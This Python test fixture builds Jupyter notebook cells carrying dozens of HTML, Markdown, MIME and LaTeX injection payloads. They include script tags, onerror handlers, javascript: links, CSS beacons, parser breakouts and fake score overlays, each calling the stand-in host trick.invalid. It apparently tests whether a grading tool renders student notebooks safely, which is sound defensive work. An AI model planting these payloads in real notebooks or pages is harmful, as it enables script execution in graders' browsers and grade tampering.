"""What a student can write into a notebook so that it does something where it is shown: each calls trick.invalid/NAME.

Harmless by itself: a request to a name that no resolver knows. `cells` gives the cell that each trick is planted in.
"""

from __future__ import annotations

from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


def call(name: str) -> str:
    return f"new Image().src='http://trick.invalid/{name}'"


def url(name: str) -> str:
    return f"http://trick.invalid/{name}"


def html_tricks() -> dict[str, str]:
    """Name -> text/html of a cell's output."""
    outputs = {
        "script": "<script>{call}</script>",
        "script-src": "<script src='{url}'></script>",
        "script-in-script": "<scr<script></script>ipt>{call}</scr<script></script>ipt>",
        "script-in-svg": "<svg><script>{call}</script></svg>",
        "img-onerror": '<img src="data:," onerror="{call}">',
        "img-unquoted": "<img src=data:, onerror=fetch('{url}')>",
        "svg-onload": '<svg onload="{call}"></svg>',
        "svg-animate": '<svg><animate attributeName="x" dur="1s" onbegin="{call}"/></svg>',
        "svg-use": '<svg><image href="{url}"/></svg>',
        "iframe-srcdoc": '<iframe srcdoc="<script>{call}</script>"></iframe>',
        "iframe-javascript": '<iframe src="javascript:{call}"></iframe>',
        "iframe-data": '<iframe src="data:text/html,<script>{call}</script>"></iframe>',
        "object-data": '<object data="{url}"></object>',
        "embed": '<embed src="{url}">',
        "meta-refresh": '<meta http-equiv="refresh" content="3600;url={url}">',
        "form": '<form action="{url}"><input name="a"><button>see my derivation</button></form>',
        "formaction": '<button formaction="{url}">more</button>',
        "style-import": "<style>@import url('{url}');</style>",
        "style-url": "<div style=\"background:url('{url}')\">x</div>",
        "style-escaped-url": "<div style=\"background:u\\72l('{url}')\">x</div>",
        "style-variable": "<div style=\"--a:url('{url}');background:var(--a)\">x</div>",
        "link-stylesheet": '<link rel="stylesheet" href="{url}">',
        "link-prefetch": '<link rel="preload" as="image" href="{url}">',
        "a-javascript": '<a href="javascript:{call}">see</a>',
        "a-javascript-tab": '<a href="jav&#x09;ascript:{call}">see</a>',
        "a-data": '<a href="data:text/html,<script>{call}</script>">see</a>',
        "a-formgrader": '<a href="/formgrader?path=/trick.invalid/a-formgrader">see my derivation</a>',
        "a-ping": '<a href="#top" ping="{url}">see</a>',
        "area": '<map name="m"><area shape="default" href="{url}"></map>',
        "base": '<base href="{url}/">',
        "img-network": '<img src="{url}" alt="a picture">',
        "img-srcset": '<img src="data:image/png;base64,{pixel}" srcset="{url} 1x">',
        "img-svg-script": '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cscript%3E'
        'fetch(%27{url}%27)%3C/script%3E%3C/svg%3E">',
        "picture-source": '<picture><source srcset="{url}"><img src="data:image/png;base64,{pixel}"></picture>',
        "video-poster": '<video poster="{url}"></video>',
        "audio-onerror": '<audio src="data:," onerror="{call}"></audio>',
        "input-image": '<input type="image" src="{url}">',
        "input-autofocus": '<input autofocus onfocus="{call}">',
        "details-ontoggle": '<details open ontoggle="{call}"><summary>s</summary>x</details>',
        "marquee-onstart": '<marquee onstart="{call}">x</marquee>',
        "body-onload": '<body onload="{call}" background="{url}">',
        "table-background": '<table background="{url}"><tr><td>x</td></tr></table>',
        "template-shadow": '<div><template shadowrootmode="open"><img src="{url}"></template></div>',
        "comment-early-end": '<!--><img src="data:," onerror="{call}">-->',
        "noscript-attribute": '<noscript><p title="</noscript><img src=data:, onerror={call}>"></noscript>',
        "math-mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, '
        'onerror={call}&gt;"></table></math>',
        "textarea-breakout": '<textarea></textarea><img src="data:," onerror="{call}"></textarea>',
        "title-breakout": '<title></title><img src="data:," onerror="{call}">',
        "end-tags-first": '</pre></div></div></div><img src="data:," onerror="{call}">',
        "not-closed": '<div title="<img src=data:, onerror={call}>',
        "style-fixed": '<div style="position:fixed;inset:0;z-index:9999" title="position: {url}">score 5 of 5</div>',
        "style-margin": '<div style="margin-top:-400px;float:left" title="margin: {url}">score 5 of 5</div>',
        "id-of-a-score": '<input class="score" id="square-test" value="{url}">',
        "widgets": '<script type="application/vnd.jupyter.widget-view+json">{{"a": "{url}"}}</script>',
    }
    return {name: text.format(call=call(name), url=url(name), pixel=PIXEL) for name, text in outputs.items()}


def bundles() -> dict[str, tuple[dict[str, Any], dict[str, Any]]]:
    """Name -> MIME bundle and metadata of a cell's output."""
    script = f"<script>{call('isolated-frame')}</script>"
    return {
        **{name: ({"text/html": text}, {}) for name, text in html_tricks().items()},
        "isolated-frame": ({"text/html": script}, {"text/html": {"isolated": True}}),
        "application-javascript": ({"application/javascript": call("application-javascript")}, {}),
        "png-width": ({"image/png": PIXEL}, {"image/png": {"width": f"1 onload=fetch('{url('png-width')}')"}}),
        "png-filename": ({"image/png": PIXEL}, {"filenames": {"image/png": url("png-filename")}}),
        "output-markdown": ({"text/markdown": f'*m* <img src="data:," onerror="{call("output-markdown")}">'}, {}),
        "output-markdown-picture": ({"text/markdown": f"![p]({url('output-markdown-picture')})"}, {}),
        "output-latex": ({"text/latex": rf"$\href{{{url('output-latex')}}}{{x}}$"}, {}),
        "widget-view": (
            {"application/vnd.jupyter.widget-view+json": {"model_id": url("widget-view"), "version_major": 2}},
            {},
        ),
    }


def texts() -> dict[str, str]:
    """Name -> a Markdown cell's text."""
    return {
        "markdown-script": f"so:\n\n<script>{call('markdown-script')}</script>",
        "markdown-onerror": f'so <img src="data:," onerror="{call("markdown-onerror")}"> it is',
        "markdown-picture": f"![a picture]({url('markdown-picture')})",
        "markdown-link": f"[see my derivation]({url('markdown-link')})",
        "markdown-formgrader": "[see](/formgrader?path=/trick.invalid/markdown-formgrader)",
        "markdown-raw-link": f'<a href="javascript:{call("markdown-raw-link")}">see</a>',
        "markdown-in-math": f'$$x<img src="data:," onerror="{call("markdown-in-math")}">$$ and $a$',
        "markdown-mermaid": f'```mermaid\n</pre><img src="data:," onerror="{call("markdown-mermaid")}">\n```',
        "markdown-latex": rf"$\style{{background:url({url('markdown-latex')})}}{{x}}$",
        "markdown-attachment": f'![a](attachment:none.png) <img src="data:," onerror="{call("markdown-attachment")}">',
    }


AS_TEXT = {
    "stream": "print({payload!r})",
    "stderr": "import sys; print({payload!r}, file=sys.stderr)",
    "error": "raise type('Trick', (Exception,), {{}})({payload!r})",
    "plain": "display({{'text/plain': {payload!r}}}, raw=True)",
    "latex": "display({{'text/latex': {payload!r}}}, raw=True)",
    "svg": "display({{'image/svg+xml': '<svg>' + {payload!r} + '</svg>'}}, raw=True)",
    "png": "display({{'image/png': 'AAAA\"' + {payload!r}}}, raw=True)",
    "comment": "# {payload}",
}


# Of these nbconvert makes text by itself; they must stay so.
HARMLESS = {"markdown-in-math", *(f"text-{name}" for name in AS_TEXT)}


def cells() -> dict[str, NotebookNode]:
    """Name -> the cell that holds the trick."""
    sources = {
        name: new_code_cell(f"display({data!r}, raw=True, metadata={metadata!r})")
        for name, (data, metadata) in bundles().items()
    }
    sources |= {name: new_markdown_cell(text) for name, text in texts().items()}
    sources["raw-cell"] = new_raw_cell(f'<a id="statusmessage" href="{url("raw-cell")}">raw</a>')
    for name, code in AS_TEXT.items():
        sources[f"text-{name}"] = new_code_cell(
            code.format(payload=f'<img src="data:," onerror="{call(f"text-{name}")}">')
        )
    return sources
